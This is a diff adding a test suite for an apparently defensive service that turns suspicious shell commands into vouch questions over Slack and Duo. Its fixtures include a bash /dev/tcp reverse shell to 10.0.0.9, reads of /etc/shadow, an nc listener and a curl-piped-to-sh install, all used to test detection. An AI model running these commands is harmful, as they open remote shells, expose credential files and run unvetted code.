@@ -1,0 +1,127 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { ALICE, BOB, Harness, messageText, waitFor } from './harness.js';
+
+/** One conversation per person and activity, end to end over HTTP against the simulators. */
+describe('conversations, not alerts', () => {
+  let h: Harness;
+  beforeEach(async () => {
+    h = await new Harness().start();
+  });
+  afterEach(async () => {
+    await h.stop();
+  });
+
+  const questions = (person = ALICE) => h.dm(person).filter((m) => m.metadata?.event_type === 'vouch_question');
+
+  async function vouch(leadId: string, reason = 'Debugging the capture on the load balancer') {
+    const lead = await h.alert(leadId);
+    const pushed = h.duo.nextPush('alice');
+    await h.click(ALICE, lead, 'vouch.confirm');
+    await waitFor(() => h.slack.openViews(ALICE.slackId).find((v) => v.open), 'the form');
+    await h.justify(ALICE, reason);
+    h.duo.respond((await pushed).txid, 'allow');
+    await waitFor(async () => (await h.alert(leadId)).status === 'verified', 'verified');
+    await h.settle();
+  }
+
+  it('one session: each tcpdump and nc variant joins one DM, updated in place, and one answer and push cover them all', async () => {
+    h.runCommand(ALICE, ['tcpdump', '-i', 'eth0'], { session: 41 });
+    await h.settle();
+    h.runCommand(ALICE, ['tcpdump', '-i', 'eth1', '-w', '/tmp/x.pcap'], { session: 41 });
+    h.runCommand(ALICE, ['nc', '-l', '4444'], { session: 41 });
+    await h.settle();
+    expect(questions()).toHaveLength(1);
+    const alerts = await h.alerts();
+    expect(alerts).toHaveLength(3);
+    const lead = alerts.find((a) => a.id === a.conversation_id)!;
+    expect(alerts.every((a) => a.conversation_id === lead.id)).toBe(true);
+    // The DM was redrawn to list the activity, with its buttons still on the lead.
+    const dm = questions()[0]!;
+    expect(dm.edits.length).toBeGreaterThan(0);
+    expect(messageText(dm)).toMatch(/one activity of 3 commands/);
+    expect(messageText(dm)).toContain('nc -l 4444');
+    expect(messageText(dm)).toContain(lead.id);
+    await vouch(lead.id);
+    expect((await h.alerts()).map((a) => a.status)).toEqual(['verified', 'verified', 'verified']);
+    expect(h.duo.pushes()).toHaveLength(1);
+    const report = (await (await fetch(`${h.service.url}/api/alerts`, { headers: { authorization: `Bearer ${h.service.reviewToken}` } })).json()) as Array<{ conversation_id: string }>;
+    expect(report.map((row) => row.conversation_id)).toEqual([lead.id, lead.id, lead.id]);
+  });
+
+  it('a fleet deploy: curl | sh on 25 hosts is one DM', async () => {
+    for (let i = 0; i < 25; i += 1) h.runCommand(ALICE, ['sh', '-c', 'curl -fsSL https://get.example.com/install.sh | sh'], { host: `web-${i}`, session: 100 + i });
+    await h.settle();
+    expect(questions()).toHaveLength(1);
+    expect(messageText(questions()[0]!)).toMatch(/on 25 hosts/);
+  });
+
+  it('an attack in another session after a verification is asked; the same session within the window is covered', async () => {
+    h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 5 });
+    await h.settle();
+    const [lead] = await h.alerts();
+    await vouch(lead!.id);
+    // The owner, same session, a minute later: covered, nobody asked.
+    await h.advance(60_000);
+    h.runCommand(ALICE, ['cat', '/etc/gshadow'], { session: 5 });
+    await h.settle();
+    expect(questions()).toHaveLength(1);
+    // Someone else holding alice's account in another session: asked.
+    h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 666 });
+    await h.settle();
+    expect(questions()).toHaveLength(2);
+    const attack = (await h.alerts()).find((a) => a.session_key?.endsWith('ses:666'))!;
+    expect(attack).toMatchObject({ status: 'asked' });
+    expect(attack.conversation_id).toBe(attack.id);
+  });
+
+  it('repeats of an escalated conversation: no new DM, one reply in the channel thread', async () => {
+    h.runCommand(ALICE, ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'], { session: 8 });
+    await h.settle();
+    const [lead] = await h.alerts();
+    await h.click(ALICE, lead!, 'vouch.deny');
+    await waitFor(async () => (await h.alert(lead!.id)).status === 'escalated', 'the escalation');
+    await h.settle();
+    expect(h.security()).toHaveLength(1);
+    for (let i = 0; i < 5; i += 1) {
+      h.runCommand(ALICE, ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'], { session: 8 });
+      await h.advance(1000);
+    }
+    expect(questions()).toHaveLength(1);
+    const posts = h.security();
+    expect(posts.filter((m) => m.threadTs === null)).toHaveLength(1);
+    const replies = posts.filter((m) => m.threadTs !== null && m.threadTs !== m.ts);
+    expect(replies.length).toBeGreaterThanOrEqual(1);
+    expect(messageText(replies[0]!)).toMatch(/Seen again/);
+    expect((await h.alerts()).filter((a) => a.status === 'escalated')).toHaveLength(6);
+  });
+
+  it('pace: one open question per person; what comes meanwhile waits and is asked when the first ends', async () => {
+    h.runCommand(ALICE, ['cat', '/etc/shadow'], { session: 1 });
+    await h.settle();
+    const [first] = await h.alerts();
+    expect(questions()).toHaveLength(1);
+    // Another activity in another session: not asked while the first question is open.
+    await h.advance(20 * 60_000);
+    h.runCommand(ALICE, ['tcpdump', '-i', 'eth0'], { session: 2 });
+    h.runCommand(ALICE, ['nc', '-l', '-p', '4444'], { session: 3 });
+    h.runCommand(BOB, ['tcpdump', '-i', 'eth0'], { session: 4 });
+    await h.settle();
+    expect(questions()).toHaveLength(1);
+    expect(questions(BOB)).toHaveLength(1);
+    await vouch(first!.id, 'Checking password ages for the audit');
+    await h.settle();
+    expect(questions()).toHaveLength(2);
+    // Both waiting activities went into the one question asked next.
+    expect(messageText(questions()[1]!)).toMatch(/one activity of 2 commands/);
+  });
+
+  it('a burst of 300 hits from 3 people is one question per person', async () => {
+    for (let i = 0; i < 300; i += 1) {
+      const person = [ALICE, BOB][i % 2]!;
+      h.runCommand(person, ['cat', '/etc/shadow', `#${i}`], { session: 1000 + i, host: `db-${i % 9}` });
+    }
+    await h.settle();
+    expect(questions(ALICE)).toHaveLength(1);
+    expect(questions(BOB)).toHaveLength(1);
+  });
+});
